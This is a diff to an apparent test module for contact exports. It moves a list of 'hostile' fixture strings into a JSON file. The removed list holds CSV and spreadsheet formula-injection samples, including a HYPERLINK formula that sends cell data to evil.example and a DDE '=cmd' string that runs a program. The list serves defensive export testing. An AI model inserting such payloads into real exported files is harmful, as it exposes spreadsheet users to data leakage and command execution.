@@ -15,52 +15,9 @@ import { newContact } from '../../../shared/domain/contacts/new-contact.ts';
 import type { ContactId } from '../../../shared/domain/ids.ts';
 import { addDays, type Instant, instant } from '../../../shared/domain/instant.ts';
 import type { Assets } from '../../../shared/domain/workspace.ts';
+import HOSTILE from '../../cases/exports/hostile.json' with { type: 'json' };
 
 const SCRIPTS = [arabic, persian, georgian, korean, nepali, russian, thai, vietnamese, chinese, faker];
-
-/** What breaks files, spreadsheets and those who read them. */
-const HOSTILE = [
-  '=1+1',
-  "'=1+1",
-  "''=1+1",
-  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-  '+250788123456',
-  "'+250788123456",
-  '-2+3',
-  '-7',
-  '--',
-  "'--",
-  '@SUM(A1)',
-  '=cmd|"/c calc"!A0',
-  '＝1+1',
-  '"quoted", and; separated | by\teverything',
-  'two\nlines',
-  'two\r\nlines',
-  'a return\ralone',
-  "'",
-  '"',
-  '""',
-  'null',
-  'undefined',
-  '0',
-  '0788123456',
-  '2.50788E+11',
-  'TRUE',
-  '1-2',
-  '_x0041_',
-  '_x000D_',
-  '{"name": "x"}',
-  '<b>&amp;</b>]]>',
-  'می‌خواهم',
-  '👩‍👩‍👧‍👦 family',
-  'क्‍ष',
-  'a\u00a0b',
-  '\u202eleft',
-  'e\u0301 is not é',
-  '%2C %25',
-  'sep=;',
-  '#REF!',
-];
 
 export const FIELDS = [
   { name: 'Home town', type: 'text' },
